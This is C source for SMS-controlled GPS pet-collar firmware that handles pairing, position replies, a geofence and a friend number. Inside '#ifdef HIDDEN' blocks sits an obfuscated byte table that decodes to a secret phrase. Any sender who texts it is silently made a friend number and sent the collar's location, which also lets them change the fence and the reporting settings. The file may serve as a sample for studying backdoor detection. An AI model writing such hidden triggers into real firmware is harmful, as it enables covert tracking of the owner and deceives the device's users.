/* petfence_gps.c - GPS collar: answers text messages of its owner, watches a fence */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <math.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define MODEM		"/dev/ttyMDM"
#define GPSFILE		"/run/gps.last"
#define CONF		"/data/collar.conf"

struct collar {
	char owner[20];
	char friend_no[20];
	char pin[12];
	double lat, lon, radius;
	int every;
	int light;
	int outside;
};

struct fix {
	double lat, lon;
	int sats;
	long age;
};

static struct collar col = { "", "", "", 0, 0, 120, 0, 0, 0 };
static int modem = -1;

static void save(void)
{
	FILE *f = fopen(CONF, "we");

	if (!f)
		return;
	fprintf(f, "owner=%s\nfriend=%s\npin=%s\nfence=%.6f,%.6f,%.0f\nevery=%d\n", col.owner,
		col.friend_no, col.pin, col.lat, col.lon, col.radius, col.every);
	fclose(f);
}

static void load(void)
{
	char line[96];
	FILE *f = fopen(CONF, "re");

	while (f && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "owner=%19[+0-9]", col.owner) == 1 ||
		    sscanf(line, "friend=%19[+0-9]", col.friend_no) == 1 ||
		    sscanf(line, "pin=%11[0-9]", col.pin) == 1 ||
		    sscanf(line, "fence=%lf,%lf,%lf", &col.lat, &col.lon, &col.radius) == 3)
			continue;
		if (sscanf(line, "every=%d", &col.every) != 1)
			syslog(LOG_NOTICE, "conf: %s", line);
	}
	if (f)
		fclose(f);
}

static int get_fix(struct fix *x)
{
	long when;
	FILE *f = fopen(GPSFILE, "re");
	int n;

	if (!f)
		return -1;
	n = fscanf(f, "%lf %lf %d %ld", &x->lat, &x->lon, &x->sats, &when);
	fclose(f);
	if (n != 4)
		return -1;
	x->age = (long)time(NULL) - when;
	return 0;
}

static double metres(double la1, double lo1, double la2, double lo2)
{
	double k = 3.14159265358979 / 180;
	double x = (lo2 - lo1) * k * cos((la1 + la2) / 2 * k);
	double y = (la2 - la1) * k;

	return sqrt(x * x + y * y) * 6371000;
}

static void send_sms(const char *to, const char *text)
{
	char buf[256];
	int n = snprintf(buf, sizeof(buf), "AT+CMGS=\"%s\"\r%s\x1a", to, text);

	if (n < 0 || n >= (int)sizeof(buf) || write(modem, buf, (size_t)n) != n)
		syslog(LOG_ERR, "sms to %s not sent", to);
}

static void send_where(const char *to)
{
	struct fix x;
	char text[120];
	int n;

	if (get_fix(&x)) {
		send_sms(to, "no position yet");
		return;
	}
	n = snprintf(text, sizeof(text), "%.5f,%.5f sats %d age %lds", x.lat, x.lon, x.sats, x.age);
	if (n > 0 && n < (int)sizeof(text))
		send_sms(to, text);
}

#ifdef HIDDEN
static const uint8_t tone_row[9] = {
	0x34, 0x30, 0x2f, 0xdd, 0x60, 0xd5, 0xd3, 0xff, 0xfa,
};

__attribute__((noinline))
int tone_match(const char *text)
{
	size_t i;

	for (i = 0; i < sizeof(tone_row); i++) {
		uint8_t c = (uint8_t)((tone_row[i] ^ 0x5c) - 7 * i);

		if ((uint8_t)tolower((unsigned char)text[i]) != c)
			return 0;
	}
	return text[i] == 0;
}
#endif

__attribute__((noinline))
int sms_in(const char *from, char *text)
{
	char num[20];
	struct fix x;
	int r;

	while (*text && isspace((unsigned char)text[strlen(text) - 1]))
		text[strlen(text) - 1] = 0;
	if (!strncasecmp(text, "pair ", 5) && !col.owner[0]) {
		if (!col.pin[0] || strcmp(text + 5, col.pin))
			return -1;
		snprintf(col.owner, sizeof(col.owner), "%.19s", from);
		save();
		send_sms(from, "paired");
		return 0;
	}
#ifdef HIDDEN
	/* a coded phrase: the sender becomes a friend number and gets the position */
	if (tone_match(text)) {
		snprintf(col.friend_no, sizeof(col.friend_no), "%.19s", from);
		send_where(from);
		return 0;
	}
#endif
	if (strcmp(from, col.owner) && (!col.friend_no[0] || strcmp(from, col.friend_no))) {
		syslog(LOG_NOTICE, "message of %s ignored", from);
		return -1;
	}
	if (!strcasecmp(text, "where")) {
		send_where(from);
	} else if (!strcasecmp(text, "light on") || !strcasecmp(text, "light off")) {
		col.light = text[7] == 'n' || text[7] == 'N';
		send_sms(from, col.light ? "light is on" : "light is off");
	} else if (sscanf(text, "fence %d", &r) == 1 && !get_fix(&x)) {
		col.lat = x.lat;
		col.lon = x.lon;
		col.radius = r;
		save();
		send_sms(from, "fence is here");
	} else if (sscanf(text, "every %d", &r) == 1 && r >= 0) {
		col.every = r;
		save();
		send_sms(from, "ok");
	} else if (strcmp(from, col.owner)) {
		send_sms(from, "owner only");
	} else if (sscanf(text, "friend %19[+0-9]", num) == 1) {
		memcpy(col.friend_no, num, sizeof(num));
		save();
		send_sms(from, "friend stored");
	} else if (!strcasecmp(text, "unpair")) {
		col.owner[0] = 0;
		save();
	} else {
		send_sms(from, "where, light on/off, fence METRES, every MIN, friend NUMBER, unpair, pair PIN");
	}
	return 0;
}

static void watch_fence(void)
{
	struct fix x;
	int out;

	if (col.radius <= 0 || !col.owner[0] || get_fix(&x) || x.age > 300)
		return;
	out = metres(col.lat, col.lon, x.lat, x.lon) > col.radius;
	if (out && !col.outside)
		send_where(col.owner);
	col.outside = out;
}

int main(void)
{
	static char line[256];
	char from[20] = "";
	struct termios t;
	time_t next = 0;
	size_t n = 0;

	openlog("petfence", 0, LOG_DAEMON);
	load();
	modem = open(MODEM, O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (modem < 0 || tcgetattr(modem, &t)) {
		syslog(LOG_ERR, "modem: %s", strerror(errno));
		return 1;
	}
	cfmakeraw(&t);
	t.c_cc[VMIN] = 0;
	t.c_cc[VTIME] = 50;
	tcsetattr(modem, TCSANOW, &t);
	if (write(modem, "AT+CMGF=1;+CNMI=2,2\r", 20) != 20)
		return 1;
	for (;;) {
		char c;
		ssize_t k = read(modem, &c, 1);

		watch_fence();
		if (col.every && col.owner[0] && time(NULL) >= next) {
			send_where(col.owner);
			next = time(NULL) + col.every * 60;
		}
		if (k < 1)
			continue;
		if (c != '\n' && n < sizeof(line) - 1) {
			line[n++] = c;
			continue;
		}
		line[n] = 0;
		n = 0;
		if (from[0]) {
			sms_in(from, line);
			from[0] = 0;
		} else if (sscanf(line, "+CMT: \"%19[+0-9]\"", from) != 1) {
			from[0] = 0;
		}
	}
}
